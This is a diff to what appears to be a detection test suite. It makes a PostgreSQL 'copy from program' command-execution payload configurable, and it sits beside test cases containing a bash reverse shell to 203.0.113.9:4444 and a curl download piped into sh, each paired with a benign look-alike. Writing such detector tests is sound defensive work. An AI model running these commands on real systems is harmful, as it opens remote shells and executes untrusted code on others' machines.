@@ -18,8 +18,8 @@ os.execv("/bin/sh", ["sh"])'
 POSTGRES = """
 cd /var/lib/postgresql
 setpriv --reuid=postgres --regid=postgres --clear-groups /usr/lib/postgresql/15/bin/postgres --single -D data postgres <<'END'
-create table lines (line text);
-copy lines from program 'id';
+create table if not exists lines (line text);
+copy lines from program '{}';
 END
 """
 
@@ -38,9 +38,9 @@ END
     Proof("Reverse shell command", attack="bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' || true",
           look_alike="python3 -c 'import socket; socket.create_server((\"127.0.0.1\", 7001))'"),
 
-    Proof("Server program started a shell", attack=POSTGRES, look_alike="sh -c 'nginx -t'"),
+    Proof("Server program started a shell", attack=POSTGRES.format("id"), look_alike="sh -c 'nginx -t'"),
 
-    Proof("Server program started a tool", attack=POSTGRES, look_alike="nginx -t"),
+    Proof("Server program started a tool", attack=POSTGRES.format("exec id"), look_alike="nginx -t"),
 
     Proof("Download piped into a shell", attack="sh -c 'curl -s http://203.0.113.9/script | sh'",
           look_alike="sh -c 'curl -fsS http://203.0.113.9/script | grep id'"),
